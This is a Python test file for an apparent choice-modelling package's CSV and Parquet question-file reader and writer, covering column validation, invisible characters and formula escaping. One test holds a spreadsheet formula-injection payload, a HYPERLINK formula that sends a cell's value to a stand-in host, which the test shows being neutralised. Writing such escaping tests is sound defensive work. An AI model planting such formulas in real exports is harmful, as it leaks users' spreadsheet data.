"""Files of questions and other CSV files: refused where they say something else, read back as they were written."""

from __future__ import annotations

import pandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edpbrl_gym.cli import main
from edpbrl_gym.comparisons.csv_files import escape_cell, original_cell, read_csv, write_csv
from edpbrl_gym.comparisons.question_files import holds_answers, read_answers, write_questions
from edpbrl_gym.likelihood import Response
from tests.helpers.encoders import CountingEncoder

TABLE = {
    "episode": ["0", "0", "1"],
    "step": ["0", "1", "0"],
    "option_1": ["fog", "fog, dusk", "sun"],
    "option_2": ["sea", "sea, dawn", "rain"],
    "option_3": ["gate", "gate, noon", "snow"],
    "choice": ["1", "", "3"],
}
FORMATS = pytest.mark.parametrize("ending", ["csv", "parquet"])


def written(folder, ending, columns):
    file = folder / f"questions.{ending}"
    table = pandas.DataFrame(columns)
    table.to_csv(file, index=False) if ending == "csv" else table.to_parquet(file, index=False)
    return file


@FORMATS
def test_columns_in_any_order_with_others_between(tmp_path, ending):
    shuffled = {name: TABLE[name] for name in ("choice", "option_3", "option_1", "step", "option_2", "episode")}
    file = written(tmp_path, ending, {"remark": ["", "x", ""], **shuffled})
    found, left_out = read_answers(file, CountingEncoder())
    assert found.texts == [["fog", "sea", "gate"], ["sun", "rain", "snow"]]
    assert found.choice.tolist() == [0, 2] and found.episode.tolist() == [0, 1] and left_out == 1


@FORMATS
@pytest.mark.parametrize(
    ("renamed", "message"),
    [
        ({"option_2": "option_7"}, r"columns option_1, option_2, option_3, without a gap, got .*option_7"),
        ({"option_3": "option_4"}, r"option_3 is missing"),
        ({"option_1": "option_0"}, r"option_1 is missing"),
        ({"option_2": "option_02"}, r"option_2 is missing"),
        ({"option_3": "Option_3"}, r"option_3 is missing"),
        ({"option_3": "option_x"}, r"option_3 is missing"),
        ({"option_3": "Option 3"}, r"got option_1, option_2, Option 3; option_3 is missing"),
        ({"episode": "2nd OPTION"}, r"option_4 is missing.*rename columns that aren't options"),
        ({"choice": "chosen"}, r"option_2, \.\.\. and choice in .*chosen"),
    ],
)
def test_options_must_be_numbered_without_gaps(tmp_path, ending, renamed, message):
    file = written(tmp_path, ending, {renamed.get(name, name): cells for name, cells in TABLE.items()})
    with pytest.raises(ValueError, match=message):
        read_answers(file, CountingEncoder())


def test_a_column_twice_is_refused(tmp_path):
    file = tmp_path / "questions.csv"
    file.write_text("option_1,option_2,option_2,choice\na,b,c,1\n")
    with pytest.raises(ValueError, match="got option_2 more than once"):
        read_answers(file, CountingEncoder())


@FORMATS
@pytest.mark.parametrize("cell", ["", "  ", None])
@pytest.mark.parametrize("row", [1, 2])
def test_an_empty_option_names_row_and_column(tmp_path, ending, cell, row):
    cells = list(TABLE["option_2"])
    cells[row] = cell
    file = written(tmp_path, ending, {**TABLE, "option_2": cells})
    place = f"question {row + 1}" + (rf" \(line {row + 2}\)" if ending == "csv" else "")
    with pytest.raises(ValueError, match=f"empty cell in column option_2 of {place}; write the option"):
        read_answers(file, CountingEncoder())


@FORMATS
@pytest.mark.parametrize(("column", "wrong"), [("step", "first"), ("episode", ""), ("step", "-1"), ("episode", "1.5")])
def test_counters_are_whole_numbers(tmp_path, ending, column, wrong):
    file = written(tmp_path, ending, {**TABLE, column: [*TABLE[column][:2], wrong]})
    with pytest.raises(ValueError, match=f"whole numbers in the column {column} of .*got '{wrong}' in question 3"):
        read_answers(file, CountingEncoder())


@pytest.mark.parametrize("wrong", ["1_0", "٢", "1e0", "True", "+1", "0", "4", "1.5"])
def test_choices_are_numbers_of_options(tmp_path, wrong):
    file = written(tmp_path, "csv", {**TABLE, "choice": ["1", "", wrong]})
    with pytest.raises(ValueError, match=r"choices 1\.\.3 .* in question 3 \(line 4\)"):
        read_answers(file, CountingEncoder())


def test_lines_are_those_of_the_file_and_blank_rows_are_left_out(tmp_path):
    file = tmp_path / "questions.csv"
    file.write_text('option_1,option_2,choice\n"two\nlines",b,2.0\n\n,,\nc,,1\n')
    with pytest.raises(ValueError, match=r"column option_2 of question 3 \(line 6\)"):
        read_answers(file, CountingEncoder())
    file.write_text('option_1,option_2,choice\n"two\nlines",b,2.0\n\n,,\nc,d,\n')
    found, left_out = read_answers(file, CountingEncoder())
    assert found.texts == [["two\nlines", "b"]] and found.choice.tolist() == [1] and left_out == 1


def test_a_row_with_a_cell_too_many_is_not_read_shifted(tmp_path):
    """Where every row has one, pandas takes the first column for row names and all cells move one to the left."""
    file = tmp_path / "questions.csv"
    file.write_text("option_1,option_2,choice\na,fog,b,1\n")
    with pytest.raises(
        ValueError, match=r"3 field\(s\) in each row.*got 4 in line 2; put prompts that hold a comma in double"
    ):
        read_answers(file, CountingEncoder())


@FORMATS
@pytest.mark.parametrize("unseen", ["\u200b", "\ufeff", "\u3164", "\u2800", "\x1b[31m", "sea\0", "sea\u200d"])
def test_an_option_that_nobody_can_see_names_row_and_column(tmp_path, ending, unseen):
    file = written(tmp_path, ending, {**TABLE, "option_2": ["sea", "fog", f"x{unseen}y"]})
    with pytest.raises(ValueError, match=r"readable text in column option_2 of question 3.*got U\+.*can't be seen"):
        read_answers(file, CountingEncoder())
    file = written(tmp_path, ending, {**TABLE, "option_2": ["sea", "fog", "e\u0301t\u00e9\nx"]})
    assert read_answers(file, CountingEncoder())[0].texts[1][1] == "\u00e9t\u00e9\nx"  # composed


@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_semicolons_of_a_spreadsheet_separate_columns(tmp_path, mark):
    file = tmp_path / "questions.csv"
    file.write_text(f'{mark}option_1;option_2;choice\r\na gate, fog;"b;c";2\r\n', encoding="utf-8", newline="")
    found, _ = read_answers(file, CountingEncoder())
    assert found.texts == [["a gate, fog", "b;c"]] and found.choice.tolist() == [1]
    file.write_text("option_1;option_2;choice\na;b;c;1\n")
    with pytest.raises(ValueError, match="hold a semicolon in double quotes"):
        read_answers(file, CountingEncoder())


def test_the_command_says_row_and_column(tmp_path, capsys):
    out = ["--out", str(tmp_path / "theta"), "--prior", "ridge"]
    file = written(tmp_path, "csv", {**TABLE, "option_2": ["sea", "sea, dawn", ""]})
    assert main(["estimate", str(file), *out]) == 1
    assert "column option_2 of question 3 (line 4)" in capsys.readouterr().err
    file.write_text(file.read_text().replace("option_2", "option_7"))
    assert main(["estimate", str(file), *out]) == 1
    assert "option_2 is missing" in capsys.readouterr().err
    assert not (tmp_path / "theta").exists()


# -- cells that a spreadsheet would take for formulas ------------------------------------------------------------------

TEXTS = st.text(alphabet=st.sampled_from("=+-@'\t\r\n \"a,;é"), max_size=6)


@given(TEXTS)
def test_escaped_cells_are_no_formulas_and_come_back(text):
    cell = escape_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert original_cell(cell) == text


@given(st.lists(st.tuples(TEXTS, TEXTS, st.floats(-3, 3)), min_size=1, max_size=5))
@settings(max_examples=50)
def test_any_table_comes_back(tmp_path_factory, rows):
    file = tmp_path_factory.mktemp("csv") / "table.csv"
    header = ["=first", "second", "score"]
    write_csv(file, header, [dict(zip(header, row, strict=True)) for row in rows])
    found = read_csv(file)
    assert found.header == ["=first", "second", "score"]
    assert [row[:2] for row in found.rows] == [[first, second] for first, second, _ in rows]
    assert [float(row[2]) for row in found.rows] == [score for _, _, score in rows]
    if rows[0][2] < 0:
        assert not found.rows[0][2].startswith("'") and "'-" not in file.read_text().splitlines()[0]


def test_questions_come_back_and_hold_no_formula(tmp_path):
    link = '=HYPERLINK("http://x.example/?"&A1, "fog")'
    questions = [(0, 0, [link, "'=quoted"]), (0, 1, ["+fog", "-sea, @dawn"])]
    file = write_questions(tmp_path / "questions.csv", questions)
    assert not holds_answers(file)
    table = pandas.read_csv(file)
    cells = table[["option_1", "option_2"]].to_numpy().ravel().tolist()
    assert cells == [f"'{link}", "''=quoted", "'+fog", "'-sea, @dawn"]
    table["choice"] = [2, 1]
    table.to_csv(file, index=False)  # as a spreadsheet saves it
    assert holds_answers(file)
    found, _ = read_answers(file, CountingEncoder())
    assert found.texts == [texts for _, _, texts in questions]


@FORMATS
@pytest.mark.parametrize("options", [9, 12])
def test_richer_answers_of_large_grids(tmp_path, ending, options):
    """Several numbers are a partial ranking, a column worst makes best and worst; the order is that of the cell."""
    columns = {f"option_{number + 1}": [f"text {row} {number}" for row in range(5)] for number in range(options)}
    choice = [str(options), f"{options} 1  7", "3 > 9>2", "", "4.0"]
    worst = ["", "", "", "", "2"]
    file = written(tmp_path, ending, {**columns, "choice": choice, "worst": worst})
    found, left_out = read_answers(file, CountingEncoder())
    assert found.responses == (
        Response.best(options - 1),
        Response.partial((options - 1, 0, 6)),
        Response.partial((2, 8, 1)),
        Response.best_worst(3, 1),
    )
    assert left_out == 1 and found.num_options == options
    assert read_answers(written(tmp_path, ending, {**columns, "choice": choice}), CountingEncoder())[0].choice[-1] == 3


@pytest.mark.parametrize(
    ("choice", "worst", "said"),
    [
        ("1 1", "", "each option once .* got '1 1' in question 3"),
        ("1 4", "", r"choices 1\.\.3 .* got '1 4'"),
        ("1,2", "", r"choices 1\.\.3"),
        ("1 2", "3", "one best option beside a worst one, got '1 2' and worst '3'"),
        ("2", "2", "each option once .* and worst '2' in question 3"),
        ("2", "x", r"choices 1\.\.3 .* got 'x'"),
    ],
)
def test_richer_answers_that_make_no_sense(tmp_path, choice, worst, said):
    table = {**TABLE, "choice": ["1", "", choice], "worst": ["", "", worst]}
    with pytest.raises(ValueError, match=said):
        read_answers(written(tmp_path, "csv", table), CountingEncoder())
